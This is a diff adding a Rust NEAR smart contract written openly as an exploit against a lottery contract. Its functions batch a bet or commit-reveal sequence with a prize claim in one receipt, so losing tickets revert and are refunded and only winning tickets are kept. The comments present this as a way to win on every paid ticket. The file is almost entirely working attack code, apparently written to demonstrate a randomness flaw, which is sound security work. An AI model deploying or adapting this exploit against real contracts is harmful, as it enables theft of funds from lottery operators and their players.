@@ -0,0 +1,75 @@
+use near_sdk::borsh::{self, BorshDeserialize, BorshSerialize};
+
+use near_sdk::serde_json::json;
+use near_sdk::{
+    env, json_types::Base64VecU8, near_bindgen, AccountId, Gas, Promise, PromiseError, ONE_NEAR,
+};
+
+pub const TGAS: u64 = 1_000_000_000_000;
+
+// Mirrors `randomness::TICKET_PRICE`
+pub const TICKET_PRICE: u128 = ONE_NEAR;
+
+// Unlike the classic attack, this exploit does not compute the outcome and bet only on a win.
+// `random_seed` is derived per receipt, so `bet` always sees a different seed (and usually a
+// later block) than any call of this contract. It bets every time and reverts losing tickets
+// instead, so every ticket it pays for still wins.
+#[near_bindgen]
+#[derive(BorshDeserialize, BorshSerialize, Default)]
+pub struct Contract {}
+
+#[near_bindgen]
+impl Contract {
+    // Buys a ticket and claims the prize in one receipt. A losing ticket makes `claim_prize`
+    // panic, the whole receipt is reverted and the ticket price refunded.
+    pub fn exploit(lottery: AccountId) -> Promise {
+        Promise::new(lottery)
+            .function_call("bet".to_string(), vec![], TICKET_PRICE, Gas(10 * TGAS))
+            .function_call("claim_prize".to_string(), vec![], 0, Gas(10 * TGAS))
+            .then(
+                Self::ext(env::current_account_id())
+                    .with_static_gas(Gas(5 * TGAS))
+                    .resolve_exploit(),
+            )
+    }
+
+    // Same attack against a commit-reveal lottery: commit, reveal and claim in one receipt
+    pub fn exploit_commit_reveal(
+        lottery: AccountId,
+        commitment: Base64VecU8,
+        secret: String,
+    ) -> Promise {
+        let commit_args = json!({ "commitment": commitment }).to_string().into_bytes();
+        let reveal_args = json!({ "secret": secret }).to_string().into_bytes();
+
+        Promise::new(lottery)
+            .function_call(
+                "commit".to_string(),
+                commit_args,
+                TICKET_PRICE,
+                Gas(10 * TGAS),
+            )
+            .function_call("reveal".to_string(), reveal_args, 0, Gas(10 * TGAS))
+            .function_call("claim_prize".to_string(), vec![], 0, Gas(10 * TGAS))
+            .then(
+                Self::ext(env::current_account_id())
+                    .with_static_gas(Gas(5 * TGAS))
+                    .resolve_exploit(),
+            )
+    }
+
+    // Whether a ticket was kept, which only happens when it won
+    #[private]
+    pub fn resolve_exploit(&mut self, #[callback_result] result: Result<(), PromiseError>) -> bool {
+        match result {
+            Ok(_) => {
+                env::log_str("Won");
+                true
+            }
+            Err(err) => {
+                env::log_str(&format!("Reverted: {:?}", err));
+                false
+            }
+        }
+    }
+}